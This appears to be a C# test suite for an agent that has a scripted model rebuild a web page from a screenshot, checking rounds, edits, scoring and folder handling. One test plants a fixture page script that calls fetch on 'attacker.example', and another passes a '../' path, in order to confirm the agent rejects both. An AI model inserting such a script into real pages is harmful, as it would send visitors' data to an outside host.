using System.Text.Json;
using Glm45V.Agents.Frontend;
using Glm45V.Agents.Tests.Fakes;
using Glm45V.Agents.Tests.Frontend.Scoring;
using Glm45V.Imaging;
using Glm45V.Plugins.Browser.Rendering;
using Microsoft.Extensions.AI;

namespace Glm45V.Agents.Tests.Frontend;

/// <summary>The agent in front of scripted models: a plan first, then what each test has the model say.</summary>
public sealed class FrontendAgentTests(SharedTea shared) : IClassFixture<SharedTea>, IDisposable
{
    private const string Plan = "1. A green header. 2. Two cards.\nPICTURE pot [[0,0,100,200]] a pot";

    private readonly ScratchFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task BuildAsync_PerfectPage_IsGoodEnoughAtOnce()
    {
        FrontendResult result = await BuildAsync([Fenced(TeaPage.Html)]);

        Assert.Equal(FrontendEnd.GoodEnough, result.End);
        Assert.True(result.Best!.Score!.Total >= 0.98, result.Best.Score.ToString());
        Assert.Single(result.Rounds);
        Assert.Equal(TeaPage.Html.ReplaceLineEndings("\n"), (await File.ReadAllTextAsync(_folder.File("index.html"), TestContext.Current.CancellationToken)).TrimEnd());
        Assert.True(File.Exists(_folder.File("rounds/1.png")) && File.Exists(_folder.File("rounds/1.diff.png")) && File.Exists(_folder.File("reference.png")));
        Assert.Contains("Good enough", await File.ReadAllTextAsync(_folder.File("report.html"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
    }

    [Fact]
    public async Task BuildAsync_EditsThatMendTheDraft_RaiseTheScoreRoundByRound()
    {
        FrontendResult result = await BuildAsync([Fenced(TeaPage.Draft), Edit("#334488; color: #fff; padding: 18px", "#1f6f50; color: #fff; padding: 18px"), Edit("</h1>", "</h1><p>Picked this spring, and on your table in two days.</p>")], new FrontendOptions { Rounds = 2 });

        Assert.Equal(FrontendEnd.RoundLimit, result.End);
        Assert.All(result.Rounds, round => Assert.True(round.Kept));
        double[] totals = [.. result.Rounds.Select(round => round.Score!.Total)];
        Assert.Equal(totals.Order(), totals);
        Assert.Contains(result.Rounds[0].Feedback, words => words.Contains("Missing text", StringComparison.Ordinal) && words.Contains("Picked this spring", StringComparison.Ordinal));
        Assert.Contains(result.Rounds[0].Feedback, words => words.Contains("#334488 and should be #1f6f50", StringComparison.Ordinal));
    }

    [Fact]
    public async Task BuildAsync_WorseSecondRound_KeepsTheFirstAndTellsTheModel()
    {
        FakeChatClient client = Model([Fenced(TeaPage.Draft), Edit("background: #fff; }", "background: #000; }"), Edit("background: #fff; }", "background: #010; }")]);

        FrontendResult result = await new FrontendAgent(client, shared.Renderer).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

        Assert.Equal(FrontendEnd.Plateau, result.End);
        Assert.Equal([true, false, false], result.Rounds.Select(round => round.Kept));
        Assert.Equal(1, result.Best!.Number);
        Assert.DoesNotContain("#000", await File.ReadAllTextAsync(_folder.File("index.html"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
        Assert.Contains("The last edits were taken back: Not better", client.Requests[^1].Messages[0].Text, StringComparison.Ordinal);
        Assert.True(client.Requests[^1].Options.Temperature > 0);
    }

    [Fact]
    public async Task BuildAsync_AnswersWithoutHtml_AreAskedAgainAndThenAnEnd()
    {
        FakeChatClient client = Model(["I cannot.", "```html\n<!doctype html><html><body>half", "<p>no document</p>", "", "Sorry."]);

        FrontendResult result = await new FrontendAgent(client, shared.Renderer).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

        Assert.Equal(FrontendEnd.Failed, result.End);
        Assert.Null(result.Best);
        Assert.Equal(6, client.Requests.Count);
        Assert.Contains("it is cut off", client.Requests[3].Messages[^1].Text, StringComparison.Ordinal);
        Assert.Contains("no HTML document", result.Detail, StringComparison.Ordinal);
        Assert.False(File.Exists(_folder.File("index.html")));
    }

    [Fact]
    public async Task BuildAsync_DocumentWithAScript_IsAskedForWithout()
    {
        FakeChatClient client = Model([Fenced(TeaPage.Html.Replace("</body>", "<script>fetch('https://attacker.example')</script></body>", StringComparison.Ordinal)), Fenced(TeaPage.Html)]);

        FrontendResult result = await new FrontendAgent(client, shared.Renderer).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

        Assert.Contains("holds scripts", client.Requests[2].Messages[^1].Text, StringComparison.Ordinal);
        Assert.DoesNotContain("attacker", result.Best!.Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BuildAsync_EditThatDoesNotFit_IsExplainedToTheModel()
    {
        FakeChatClient client = Model([Fenced(TeaPage.Draft), Edit("no such text", "x"), Edit("padding: ", "x"), Edit("#334488; color: #fff; padding: 18px", "#1f6f50; color: #fff; padding: 18px")]);

        FrontendResult result = await new FrontendAgent(client, shared.Renderer, new FrontendOptions { Rounds = 1 }).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

        Assert.Contains("does not hold the text “no such text”", client.Requests[3].Messages[^1].Text, StringComparison.Ordinal);
        Assert.Contains("holds the text “padding:” 4 times", client.Requests[4].Messages[^1].Text, StringComparison.Ordinal);
        Assert.True(result.Rounds[1].Kept);
    }

    [Fact]
    public async Task BuildAsync_Interrupted_GoesOnWhereItWas()
    {
        using var stop = new CancellationTokenSource();
        var first = new FrontendAgent(Model([Fenced(TeaPage.Draft)]), shared.Renderer);
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => first.BuildAsync(Reference, _folder.Path, _ => stop.Cancel(), stop.Token));
        var second = new FakeChatClient(Reply(Fenced(TeaPage.Html)));

        FrontendResult result = await new FrontendAgent(second, shared.Renderer).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

        Assert.Equal([RoundKind.Draft, RoundKind.Refine], result.Rounds.Select(round => round.Kind));
        Assert.Equal(FrontendEnd.GoodEnough, result.End);
    }

    [Fact]
    public async Task BuildAsync_FolderOfAnotherPicture_IsRefused()
    {
        await BuildAsync([Fenced(TeaPage.Html)]);

        Glm45VException error = await Assert.ThrowsAsync<Glm45VException>(() => new FrontendAgent(Model(["x"]), shared.Renderer)
            .BuildAsync(DesignReference.Of(new RgbImage(40, 40, new byte[4800])), _folder.Path, cancellationToken: TestContext.Current.CancellationToken));

        Assert.Contains("holds the work on another picture", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BuildAsync_TwoRunsInOneFolder_TheSecondIsRefused()
    {
        Glm45VException? error = null;
        var agent = new FrontendAgent(Model([Fenced(TeaPage.Html)]), shared.Renderer);

        await agent.BuildAsync(Reference, _folder.Path, _ => error = Assert.Throws<Glm45VException>(() => agent.BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken).GetAwaiter().GetResult()), TestContext.Current.CancellationToken);

        Assert.Contains("Another run works", error!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BuildAsync_Variants_TheBestGoesOnAndAllAreKept()
    {
        FrontendResult result = await BuildAsync([Fenced(TeaPage.Draft), Fenced(TeaPage.Html), Fenced(TeaPage.Draft)], new FrontendOptions { Variants = 3, GoodEnough = 1.0, Rounds = 0 });

        Assert.Equal([RoundKind.Draft, RoundKind.Draft], result.Rounds.Select(round => round.Kind).Take(2));
        Assert.Equal(2, result.Best!.Number);
        Assert.True(File.Exists(_folder.File("rounds/1.html")));
    }

    [Fact]
    public async Task BuildAsync_CloseVariants_TheModelChoosesSeeingBothOrders()
    {
        string other = TeaPage.Draft.Replace("padding: 24px", "padding: 25px", StringComparison.Ordinal);

        FrontendResult result = await BuildAsync([Fenced(TeaPage.Draft), Fenced(other), "A", "B"], new FrontendOptions { Variants = 2, Rounds = 0 });

        Assert.Equal(2, result.Best!.Number);
        Assert.Contains("the model prefers it", result.Best.Note, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BuildAsync_CroppedPictures_LieInTheFolderAndAreNamed()
    {
        FakeChatClient client = Model([Fenced(TeaPage.Html)]);

        await new FrontendAgent(client, shared.Renderer, new FrontendOptions { CropPictures = true }).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

        RgbImage pot = ImageDecoder.Load(_folder.File("assets/pot.png"));
        Assert.Equal((56, (int)Math.Ceiling(shared.Tea.Picture.Height * 0.2)), (pot.Width, pot.Height));
        Assert.Contains("assets/pot.png (56 ×", client.Requests[1].Messages[^1].Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BuildAsync_LongPage_IsWrittenInPartsAndTheWorstIsShown()
    {
        string Part(int number, string color) => Fenced($"<style>#part-{number} {{ height: 300px; background: {color} }}</style>\n<section id=\"part-{number}\">Part {number}</section>");
        RenderedPage page = await shared.Renderer.RenderAsync(TeaPage.Show("<body style='margin:0'>" + string.Concat(Enumerable.Range(1, 3).Select(number => $"<section style='height:300px;background:#{number}{number}8'>Part {number}</section>"))), TestContext.Current.CancellationToken);
        FakeChatClient client = Model([Part(1, "#118"), "no part", Part(2, "#228"), Part(3, "#ff0"), Edit("#ff0", "#338")]);

        FrontendResult result = await new FrontendAgent(client, shared.Renderer, new FrontendOptions { PartHeight = 300, Rounds = 1 }).BuildAsync(DesignReference.Of(page), _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

        Assert.Equal(FrontendEnd.GoodEnough, result.End);
        Assert.Contains("part 3 of 3, 300 pixels high", client.Requests[4].Messages[^1].Text, StringComparison.Ordinal);
        Assert.Contains("from 600 to 900 pixels below its top", client.Requests[5].Messages[0].Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BuildAsync_Viewports_AreShownAndSidewaysScrollingIsTold()
    {
        string wide = TeaPage.Html.Replace(".cards { display: flex;", ".cards { display: flex; min-width: 500px;", StringComparison.Ordinal).Replace("#1f6f50", "#444444", StringComparison.Ordinal);

        FrontendResult result = await BuildAsync([Fenced(wide)], new FrontendOptions { Viewports = [320], Rounds = 0 });

        Assert.Contains(result.Rounds[0].Feedback, words => words.Contains("In a window 320 pixels wide the page scrolls sideways", StringComparison.Ordinal));
        Assert.True(File.Exists(_folder.File("rounds/1-320.png")));
    }

    [Fact]
    public async Task BuildAsync_ViewportThatCannotBeShown_IsTold()
    {
        string tall = TeaPage.Html.Replace("</style>", "@media (max-width: 400px) { body { height: 17000px; } }</style>", StringComparison.Ordinal);

        FrontendResult result = await BuildAsync([Fenced(tall)], new FrontendOptions { Viewports = [320], Rounds = 0 });

        Assert.StartsWith("In a window 320 pixels wide: The page is 17000 pixels high", result.Rounds[0].Feedback[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task ChangeAsync_Instruction_IsMadeCheckedAndMadeAgain()
    {
        await BuildAsync([Fenced(TeaPage.Html)]);
        var client = new FakeChatClient(Reply(Edit("font-size: 30px", "font-size: 31px")), Reply("The heading is hardly larger."), Reply(Edit("font-size: 31px", "font-size: 48px")), Reply("Yes."));

        FrontendResult result = await new FrontendAgent(client, shared.Renderer).ChangeAsync(_folder.Path, "Make the heading much larger", cancellationToken: TestContext.Current.CancellationToken);

        Assert.Equal(FrontendEnd.Changed, result.End);
        Assert.Contains("font-size: 48px", await File.ReadAllTextAsync(_folder.File("index.html"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
        Assert.Contains("The heading is hardly larger.", client.Requests[2].Messages[0].Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Sample_PictureOfAPage_GivesItsLikeness()
    {
        await File.WriteAllBytesAsync(_folder.File("shot.png"), PngEncoder.Encode(shared.Tea.Picture), TestContext.Current.CancellationToken);

        Assert.Equal(1, await global::Sample.FrontendSample.RebuildAsync(Model([Fenced(TeaPage.Html)]), _folder.File("shot.png"), _folder.File("shop")), 4);
    }

    [Fact]
    public async Task AsAIFunction_Picture_BuildsAPageInTheWorkspace()
    {
        await File.WriteAllBytesAsync(_folder.File("shot.png"), PngEncoder.Encode(shared.Tea.Picture), TestContext.Current.CancellationToken);
        AIFunction function = new FrontendAgent(Model([Fenced(TeaPage.Html)]), shared.Renderer).AsAIFunction(_folder.Path);

        string built = (await function.InvokeAsync(new() { ["picture"] = "shot.png", ["folder"] = "shop" }, TestContext.Current.CancellationToken))!.ToString()!;
        string refused = (await function.InvokeAsync(new() { ["picture"] = "../shot.png", ["folder"] = "x" }, TestContext.Current.CancellationToken))!.ToString()!;

        Assert.Equal(("shop/index.html", 1.0), (JsonDocument.Parse(built).RootElement.GetProperty("page").GetString(), JsonDocument.Parse(built).RootElement.GetProperty("likeness").GetDouble()));
        Assert.Contains("is no file of the workspace. It has shot.png", refused, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ChangeAsync_PageOfAnotherHand_IsKeptAsItWas()
    {
        await File.WriteAllTextAsync(_folder.File("index.html"), TeaPage.Html, TestContext.Current.CancellationToken);
        var client = new FakeChatClient(Reply(Edit("<h1>Teas of the season</h1>", "<h1>All teas</h1>")), Reply("yes"));

        await new FrontendAgent(client, shared.Renderer).ChangeAsync(_folder.Path, "Rename the heading", 560, cancellationToken: TestContext.Current.CancellationToken);

        Assert.Contains("Teas of the season", await File.ReadAllTextAsync(_folder.File("rounds/0.html"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
        Assert.Contains("All teas", await File.ReadAllTextAsync(_folder.File("index.html"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
    }

    [Fact]
    public async Task ChangeAsync_FolderWithoutAPage_SaysWhatIsMissing() => Assert.Contains(
        "holds no index.html",
        (await Assert.ThrowsAsync<Glm45VException>(() => new FrontendAgent(Model(["x"]), shared.Renderer).ChangeAsync(_folder.Path, "x", cancellationToken: TestContext.Current.CancellationToken))).Message,
        StringComparison.Ordinal);

    [Fact]
    public void Of_PictureOfTwentyThousandPixels_SaysHowHigh() => Assert.Contains(
        "100 x 20000 pixels", Assert.Throws<Glm45VException>(() => DesignReference.Of(new RgbImage(100, 20_000, new byte[6_000_000]))).Message, StringComparison.Ordinal);

    private DesignReference Reference => DesignReference.Of(shared.Tea);

    private Task<FrontendResult> BuildAsync(string[] replies, FrontendOptions? options = null) =>
        new FrontendAgent(Model(replies), shared.Renderer, options).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);

    private static FakeChatClient Model(string[] replies) => new([.. replies.Prepend(Plan).Select(Reply)]);

    private static ChatResponse Reply(string words) => FakeChatClient.Reply(new TextContent(words));

    private static string Fenced(string html) => $"Here it is:\n```html\n{html}\n```\n";

    private static string Edit(string old, string now) => $"<<<<<<< SEARCH\n{old}\n=======\n{now}\n>>>>>>> REPLACE\n";
}
